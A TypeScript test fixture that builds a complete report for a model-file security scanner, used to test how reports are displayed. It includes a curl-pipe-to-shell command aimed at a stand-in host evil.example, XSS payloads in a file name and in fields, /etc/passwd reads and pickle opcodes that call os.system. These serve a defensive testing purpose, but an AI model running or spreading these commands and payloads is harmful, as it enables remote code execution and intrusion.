// One report with everything that a report can hold, for tests of how reports look: folded and nested, in notebooks and
// binaries, with secrets, gaps and waivers, and with hostile text in every place that scanned data reaches.

import type {
  Category,
  Finding,
  Gap,
  Report,
  ReportedArtifact,
  Severity,
  Verdict,
} from '@sentrascan/contract';

/** Opens and closes markup of a page, ends a script, reverses text, hides text, ends a line and a table's cell. */
export const HOSTILE_MARKUP =
  '</script><script>alert(1)</script>"><img src=x onerror=alert(2)>\u202egnp.exe\u2066\u200b\x1b[2J\r\n<!--|`\'&lt;';

/** A name that would be markup, were it not text. */
export const HOSTILE_PATH = 'data/"><img src=x onerror=alert(3)>.pkl';

/** The redacted form is all that a finding of a secret holds. */
export const REDACTED_TOKEN = 'ghp_…6789 (len=40)';

let serial = 0;

function finding(
  [ruleId, category, severity]: readonly [string, Category, Severity],
  artifact: string,
  rest: Pick<Finding, 'message'> & Partial<Finding>,
): Finding {
  serial += 1;
  return {
    ...{ ruleId, category, severity, confidence: 'high', artifact, evidence: {}, tags: [] },
    fingerprint: `v1:${String(serial).padStart(32, '0')}`,
    ...rest,
  };
}

const RUNS_CODE = ['pickle/runs-code', 'code-execution', 'critical'] as const;
const READS_FILE = ['pickle/reads-file', 'file-access', 'high'] as const;
const TOKEN = ['secret/github-token', 'secret', 'high'] as const;
const NOTEBOOK = 'notebooks/train.ipynb';

const SHARDS = Array.from({ length: 12 }, (_, index) => `shards/part-${String(index).padStart(2, '0')}.pkl`);

const shellCall = { call: "os.system('curl -s https://evil.example/x | sh')", where: 'the module' };

const findings: readonly Finding[] = [
  finding(RUNS_CODE, 'models/model.pt!archive/data.pkl', {
    location: { offset: 43, lengthBytes: 1 },
    message: "`os.system('id')` runs when the file is loaded: runs a shell line",
    evidence: {
      call: "os.system('id')",
      callable: 'os.system',
      effect: 'runs a shell line',
      args: ['id', 1, null],
    },
    excerpt: "     2: GLOBAL 'os system'\n    16: BINUNICODE 'id'\n\tTUPLE1\n    43: REDUCE\n",
    flow: [
      { message: 'os.system is resolved', location: { offset: 2 } },
      { message: 'and called with [one] {argument}', location: { offset: 43 } },
    ],
  }),
  finding(RUNS_CODE, 'models/model.pt!archive/data.pkl', {
    location: { offset: 91 },
    message: "`os.system('uname')` runs when the file is loaded: runs a shell line",
    evidence: { call: "os.system('uname')" },
  }),
  ...SHARDS.map((path) =>
    finding(READS_FILE, path, {
      location: { offset: 20 },
      message: "`builtins.open('/etc/passwd')` runs when the file is loaded: reads a file",
      evidence: { call: "builtins.open('/etc/passwd')" },
    }),
  ),
  finding(['python/runs-shell', 'unsafe-code', 'high'], 'repo/modeling_tiny.py', {
    location: { line: 12, column: 5 },
    message: `\`${shellCall.call}\` in the module starts a shell`,
    evidence: shellCall,
  }),
  finding(['code/runs-process', 'code-execution', 'critical'], 'repo/modeling_tiny.py', {
    location: { line: 12, column: 5 },
    message: `\`${shellCall.call}\` runs when the model is loaded`,
    evidence: shellCall,
  }),
  finding(['template/reaches-internals', 'template-injection', 'high'], HOSTILE_PATH, {
    location: { line: 1, column: 7 },
    message: `the template reads ${HOSTILE_MARKUP}`,
    evidence: { callable: HOSTILE_MARKUP, args: [HOSTILE_MARKUP], [HOSTILE_MARKUP]: HOSTILE_MARKUP },
    excerpt: `${HOSTILE_MARKUP}\n</pre></details></body>`,
    flow: [{ message: HOSTILE_MARKUP }],
    tags: [HOSTILE_MARKUP],
  }),
  finding(TOKEN, NOTEBOOK, {
    location: { cell: 3, part: 'source', line: 2, rawLine: 118 },
    message: `GitHub token ${REDACTED_TOKEN}`,
    evidence: { value: REDACTED_TOKEN, name: 'GITHUB_TOKEN', detail: 'classic token, checksum fits' },
  }),
  finding(TOKEN, NOTEBOOK, {
    location: { cell: 4, part: 'output', output: 0, line: 1, rawLine: 151 },
    message: `GitHub token ${REDACTED_TOKEN}`,
    evidence: { value: REDACTED_TOKEN, name: null, detail: '' },
  }),
  finding(TOKEN, NOTEBOOK, {
    location: { cell: -1, part: 'metadata', line: 1, rawLine: 402 },
    message: `GitHub token ${REDACTED_TOKEN}`,
    evidence: { value: REDACTED_TOKEN, name: 'metadata/kernelspec/env/TOKEN', detail: '' },
  }),
  finding(['pii/email', 'pii', 'medium'], NOTEBOOK, {
    confidence: 'medium',
    location: { cell: 5, part: 'output', output: 2, line: 9, rawLine: 233 },
    message: 'Email address …(len=19)',
    evidence: { value: '…(len=19)', name: 'customer_email', detail: 'column of a table', count: 37 },
  }),
  finding(['dependency/known-vulnerability', 'vulnerability', 'high'], 'requirements.txt', {
    location: { line: 3, column: 1 },
    message:
      'jinja2 2.10 has 2 known vulnerabilities, the worst CVE-2019-10906 (high, CVSS 8.6): upgrade to 2.11.3, which fixes all 2',
    evidence: {
      ...{ package: 'jinja2', version: '2.10', specifier: '==2.10', relation: 'direct', fixedAll: '2.11.3' },
      ...{ subject: 'jinja2 2.10', advice: 'upgrade to 2.11.3, which fixes all 2' },
      advisories: [
        {
          ...{ id: 'CVE-2019-10906', aliases: ['GHSA-462w-v97r-4m45', HOSTILE_MARKUP], severity: 'high' },
          cvss: { version: '3.1', vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:N/A:N', score: 8.6 },
          ...{ fixed: '2.10.1', affected: '<2.10.1', cwe: [693] },
        },
        {
          ...{ id: 'CVE-2020-28493', aliases: [], severity: 'medium', cvss: null, unscored: true },
          ...{ fixed: '2.11.3', affected: '<2.11.3', cwe: [] },
        },
      ],
    },
    excerpt: 'jinja2==2.10',
  }),
  finding(['dependency/known-vulnerability', 'vulnerability', 'high'], 'requirements.txt', {
    location: { line: 4, column: 1 },
    message: 'every release that django<2.0 allows has a known vulnerability, CVE-2019-19844 (high)',
    evidence: {
      ...{
        package: 'django',
        version: null,
        specifier: '<2.0',
        subject: 'every release that django<2.0 allows',
      },
      advice: 'require 2.2.9 or later, which fixes it',
      advisories: [{ id: 'CVE-2019-19844', aliases: [], severity: 'high', cvss: null, fixed: '2.2.9' }],
    },
  }),
  finding(['dependency/malicious-package', 'malicious-package', 'critical'], 'requirements.txt', {
    location: { line: 5, column: 1 },
    message: 'torchtriton 2.0 is malicious: MAL-2022-7415, every release; do not install it',
    evidence: {
      ...{ package: 'torchtriton', version: '2.0', specifier: '==2.0' },
      advisories: [
        { id: 'MAL-2022-7415', aliases: [], severity: 'critical', cvss: null, fixed: null, malicious: true },
      ],
    },
  }),
  finding(['container/hidden-entry', 'evasion', 'high'], 'models/model.pt', {
    message: 'the member archive/extra.pkl is not in the central directory',
    evidence: { name: 'archive/extra.pkl' },
    waiver: { reason: 'known test file', owner: 'ml-platform', expires: '2027-01-01', ticket: 'ML-17' },
  }),
  finding(['pickle/retired', 'configuration', 'low'], 'models/old.pkl', {
    confidence: 'low',
    message: 'a finding whose rule this catalogue no longer has',
  }),
];

const skipped = (artifact: string, bytes: number): Gap => ({
  artifact,
  kind: 'skipped',
  reason: `Only the structure was asked for: ${bytes} bytes were not searched.`,
  consequence: 'Programs among them were not looked for.',
});

const gaps: readonly Gap[] = [
  ...SHARDS.map((path, index) => skipped(path, 1_000 + index)),
  {
    artifact: HOSTILE_PATH,
    kind: 'truncated',
    reason: `The stream ends at byte 472 inside ${HOSTILE_MARKUP}.`,
    consequence: 'What would have followed is unknown.',
    location: { offset: 472 },
  },
  {
    artifact: 'models/model.pt!archive/data/7',
    kind: 'limit',
    reason: 'More than 1073741824 bytes inflated.',
    consequence: 'The rest of the member was not read.',
  },
  {
    artifact: 'models/locked.zip',
    kind: 'encrypted',
    reason: 'Entry "a.pkl" is encrypted.',
    consequence: 'It was not judged.',
  },
];

function artifact(
  path: string,
  identity: readonly string[],
  verdict: Verdict,
  rest: Partial<ReportedArtifact> = {},
): ReportedArtifact {
  const sizeBytes = rest.sizeBytes ?? 4_096;
  return {
    path,
    sizeBytes,
    sha256: 'c0ffee'.padEnd(64, '0'),
    identity,
    verdict,
    coverage: {
      bytesTotal: sizeBytes,
      bytesRead: sizeBytes,
      bytesExplained: sizeBytes,
      gaps: gaps.filter((gap) => gap.artifact === path).length,
    },
    ...rest,
  };
}

const member = artifact('models/model.pt!archive/data.pkl', ['pickle'], 'malicious', {
  sizeBytes: 120,
  behaviour: {
    imports: ['os', 'torch._utils'],
    calls: ["os.system('id')", HOSTILE_MARKUP],
    files: ['/etc/passwd'],
    network: ['https://evil.example/x'],
    processes: ['id'],
    unknowns: [],
    loaders: [
      { loader: 'torch.load', outcome: 'runs the program before PyTorch 2.6, refuses it since' },
      { loader: 'torch.load(weights_only=True)', outcome: 'refuses os.system' },
    ],
  },
  globals: [{ module: 'os', name: 'system', standing: 'dangerous', offset: 2, called: true }],
});

/** Malicious, with everything. */
export const RICH_REPORT: Report = {
  schema: 'sentrascan.report/1',
  tool: { name: 'sentrascan', version: '0.0.0', rulesDigest: `sha256:${'ab'.repeat(32)}` },
  target: { locator: './project', resolved: '/home/somebody/project', provenance: {} },
  advisories: {
    ...{ source: 'all.zip', created: '2026-11-20T06:00:00Z', newestModified: '2026-11-19T22:10:00Z' },
    ...{ advisories: 21_234, packages: 9_876, isPartial: false, sha256: 'ad'.repeat(32) },
  },
  verdict: 'malicious',
  summary: {
    artifacts: 20,
    bytesTotal: 3_221_299_728,
    bytesRead: 3_221_299_256,
    findings: { critical: 4, high: 19, medium: 1, low: 1 },
    gaps: gaps.length,
    waived: 1,
  },
  artifacts: [
    artifact(HOSTILE_PATH, ['gguf'], 'malicious'),
    artifact('models/clean.safetensors', ['safetensors'], 'clean', {
      claim: 'safetensors',
      model: { tensors: ['12'], dtypes: ['F16 (12)'] },
    }),
    artifact('models/locked.zip', ['zip'], 'inconclusive'),
    artifact('models/model.pt', ['torch-zip', 'zip'], 'malicious', {
      sizeBytes: 3_221_225_472,
      children: [
        member,
        artifact('models/model.pt!archive/data/7', ['tensor-blob'], 'inconclusive'),
        artifact('models/model.pt!archive/version', ['text'], 'clean', { sizeBytes: 2 }),
      ],
    }),
    artifact('models/old.pkl', ['pickle'], 'clean'),
    artifact(NOTEBOOK, ['notebook', 'json'], 'malicious', { sizeBytes: 21_000 }),
    artifact('repo/modeling_tiny.py', ['python-source'], 'malicious', { sizeBytes: 640 }),
    artifact('requirements.txt', ['python-requirements'], 'malicious', {
      sizeBytes: 73,
      manifest: { kinds: ['requirements'], isLock: false, includes: [], dependencies: [] },
    }),
    ...SHARDS.map((path) => artifact(path, ['pickle'], 'malicious')),
  ],
  findings,
  gaps,
};
